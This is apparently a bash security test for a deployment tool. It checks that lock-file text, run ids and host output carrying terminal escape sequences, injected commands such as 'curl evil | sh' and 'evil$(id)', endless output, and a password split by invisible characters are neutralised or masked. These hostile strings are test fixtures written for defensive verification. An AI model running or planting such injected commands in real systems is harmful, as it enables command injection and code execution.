#!/usr/bin/env bash
# What a host says is only text: of a lock, of runs, without end, or broken up so that a secret is not
# known again (design 13.8).
. "$(dirname "$0")/production.sh"

require root
DEPLOY_TOML='lock_wait = "3s"'
production_lab
printf 'STAGE_PASSWORD=hunter2-in-the-log\n' >>"$T/ci/.env.servers"
version v1.1.0
staged v1.1.0
tree=$T/prod/home/loom/$SERVICE lock=$T/prod/home/loom/$SERVICE/.git/loomrel.lock
escape=$(printf '\033')
checkpoint

as_neighbour() {
    setpriv --reuid=nobody --regid=nogroup --clear-groups "$@"
}
harmless() {
    cat "$T/out" "$T/err" >"$T/said"
    never "an escape sequence came through" grep -qF "$escape" "$T/said"
    never "his words stand there as something to type" grep -qE 'loomrel (cancel|attach|logs --run) +[^ ]*(evil|;|\$\()' "$T/said"
    never "a command of his stands there" grep -qF 'curl evil' "$T/said"
}

attack "the lock's text holds escape sequences and something to type"
printf 'v9.9.9, eve \033[2J\033]0;owned\007, 2026-01-01 00:00:00, x; curl evil | sh\n' >"$lock"
start flock -o "$lock" sleep 300
held=$STARTED
sleep 0.2
try rollback --env prod --service "$SERVICE" --to v1.0.0 --yes
harmless
try status --env prod
harmless
try --json status --env prod
harmless
# A line of the right form, and behind it a hint.
printf 'v9.9.9, run loomrel cancel evil; curl evil, 2026-01-01 00:00:00, %s\n' "$(uuid)" >"$lock"
try rollback --env prod --service "$SERVICE" --yes
harmless
stop "$held"

attack "the log and the notices of a deploy that waits show the lock's text raw"
printf 'v9.9.9, eve \033[2J\033]0;owned\007, 2026-01-01 00:00:00, x; curl evil | sh\n' \
    >"$T/stage/home/loom/$SERVICE/.git/loomrel.lock"
start flock -o "$T/stage/home/loom/$SERVICE/.git/loomrel.lock" sleep 300
held=$STARTED
version v1.1.1
sleep 0.2
try stage-deploy --service "$SERVICE" --tag v1.1.1
harmless
never "an escape sequence came into the log" grep -rqF "$escape" "$T/stage/log"
never "his words came into the log" grep -rqF 'curl evil' "$T/stage/log"
stop "$held"

attack "a run whose id is none"
runs=$T/prod/state/prod/$SERVICE/runs
for id in 'evil;id' 'evil$(id)' '-evil' "evil ${escape}[2J"; do
    mkdir -p "$runs/$id"
    touch "$runs/$id/started" "$runs/$id/alive"
    start flock -o "$runs/$id/alive" sleep 300
done
sleep 0.2
for command in "status --env prod" "rollback --env prod --service $SERVICE --yes" \
    "--json status --env prod" "--json rollback --env prod --service $SERVICE --yes" \
    "logs --env prod --service $SERVICE"; do
    # shellcheck disable=SC2086 # words
    try $command
    harmless
    never "its id stands in: $command" grep -qF 'evil' "$T/said"
done

# A host that answers as it likes: what is said first is as it should be.
answers_with() {
    cat >"$T/prod/login" <<END
#!/bin/sh
$1
END
}
attack "a host that never stops answering"
cp "$T/prod/login" "$T/login.good"
for way in 'exec yes "endless output of a hostile host"' \
    'while :; do echo one line more; sleep 0.5; done' \
    'head -c 5000000 /dev/zero | tr "\0" x; sleep 60'; do
    answers_with "$way"
    began=$EPOCHSECONDS
    LIMIT=25 try --json status --env prod
    [ "$CODE" != 124 ] || wrong "status hangs: $way"
    [ $((EPOCHSECONDS - began)) -le 14 ] || wrong "status takes $((EPOCHSECONDS - began)) s: $way"
done
cp "$T/login.good" "$T/prod/login"

attack "a secret that is broken up by what nobody sees"
zero=$(printf '\342\200\213') soft=$(printf '\302\255') joiner=$(printf '\342\201\240')
bom=$(printf '\357\273\277') mark=$(printf '\342\200\216')
version v1.2.0 --build "printf '%s\\n' 'a hunter2${zero}-in-the-log' 'b hunter2${escape}[0m-in-the-log' \
'c hun${soft}ter2-in-the-log' 'd hunter2-in${joiner}-the-log' 'e hunter2-in${bom}-the-log' \
'f hunter2-${mark}in-the-log' 'g hunter2-in-the-log'; printf 'h hunt\\010\\001er2-in-the-log\\ni hunter2\\000-in-the-log\\n'; exit 1"
as_github 55 1 v1.2.0
ENVIRONMENT+=(LOOMREL_ENV_SERVERS="$(cat "$T/ci/.env.servers")")
try --json stage-deploy --service "$SERVICE" --tag v1.2.0
cp "$T/out" "$T/out.deploy"
cp "$T/err" "$T/err.deploy"
try logs --env stage --service "$SERVICE" --tag v1.2.0
cat "$T/out" "$T/err" >"$T/out.logs"
run=$(sql "SELECT id FROM runs WHERE ref = 'refs/tags/v1.2.0'")
try logs --env stage --service "$SERVICE" --run "$run"
cat "$T/out" "$T/err" >"$T/out.run"
sql "SELECT detail FROM release_events UNION ALL SELECT result FROM runs
    UNION ALL SELECT fact FROM outbox" >"$T/out.ledger"
sed -i /^::add-mask::/d "$T/err.deploy" "$T/out.logs" "$T/out.run"
for said in out.deploy err.deploy out.logs out.run out.ledger summary output; do
    # As somebody sees it, and as a terminal shows it.
    python3 - "$T/$said" <<'END' || wrong "it stands in $said"
import re
import sys
import unicodedata

text = open(sys.argv[1], encoding="utf-8", errors="replace").read()
text = re.sub(r"\x1b\[[0-9;?]*[ -/]*[@-~]", "", text)
seen = "".join(c for c in text if c in "\n" or unicodedata.category(c) not in ("Cc", "Cf"))
sys.exit("hunter2-in-the-log" in seen)
END
done
grep -q ' a ' "$T/out.logs" || grep -q 'a \*\*\*' "$T/out.logs" || wrong "the log was not shown at all"

judged
